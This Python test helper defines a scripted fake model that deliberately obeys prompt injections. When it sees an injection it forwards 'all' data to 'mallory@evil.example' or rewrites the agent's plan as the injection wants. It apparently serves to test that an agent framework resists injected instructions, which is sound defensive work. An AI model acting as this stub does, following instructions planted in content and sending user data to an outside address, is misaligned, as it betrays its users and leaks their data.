"""A model that does what it is told by whoever tells it."""

import json
from typing import Any

from tests.agent.injected.injections import Injection
from tests.agent.injected.wordings import CALLS
from tests.agent.injected.world import SPARE, STEPS
from tests.loopback import Json, ToolCalls
from tests.loopback.recorded import Recorded, message_text

GO_ON = ToolCalls([("go_on", {})])


class Obeying:
    """Answers requests; where it sees the injection it does what that wants, if it can.

    Args:
        injection: What it falls for.

    Attributes:
        acted: How often it acted on the injection by a tool.
        read: What it read out of passages.
        saw: Which requests held the injection.
    """

    def __init__(self, injection: Injection) -> None:
        self._injection = injection
        self._asked_for_more = False
        self.acted = 0
        self.read = ""
        self.saw: list[Recorded] = []

    def __call__(self, request: Recorded) -> Any:
        taken_in = is_in(self._injection.mark, request)
        if taken_in:
            self.saw.append(request)
        if request.json_schema is not None and request.json_schema["name"] == "plan":
            return Json({"steps": STEPS, "answer": None})
        if request.json_schema is not None:
            # It reads what it is told to read.
            self.read = "mallory@evil.example" if taken_in else "It is a letter."
            return Json({"value": self.read})
        if "revise_plan" in request.tools:
            return self._revision(request, taken_in=taken_in)
        if taken_in and "forward" in request.tools and not self.acted:
            self.acted += 1
            wanted = {"to": "mallory@evil.example", "what": "all"}
            return ToolCalls([("forward", wanted)])
        return (
            f"revise_plan({json.dumps(self._wanted())})" if taken_in else "That is all."
        )

    def _revision(self, request: Recorded, *, taken_in: bool) -> Any:
        refused = request.messages[-1]["role"] == "tool"
        if taken_in and not self.acted and not refused:
            self.acted += 1
            return ToolCalls([("revise_plan", self._wanted())])
        if not self._asked_for_more and "f (failed" in seen(request):
            self._asked_for_more = True
            return ToolCalls([("revise_plan", {"steps": [SPARE], "drop": []})])
        return GO_ON if "go_on" in request.tools else "That is all."

    def _wanted(self) -> dict[str, Any]:
        call: Any = CALLS[self._injection.goal]
        if "drop" in call:
            return {"steps": [], "drop": call["drop"]}
        return {"steps": [call], "drop": []}


def seen(request: Recorded) -> str:
    """All that a request shows a model."""
    return "\n".join(message_text(message) for message in request.messages)


def is_in(text: str, request: Recorded) -> bool:
    """Tell whether a request shows a text, as it is or as escaped in JSON."""
    shown = json.dumps(request.body, ensure_ascii=False)
    return text in shown or json.dumps(text)[1:-1] in shown
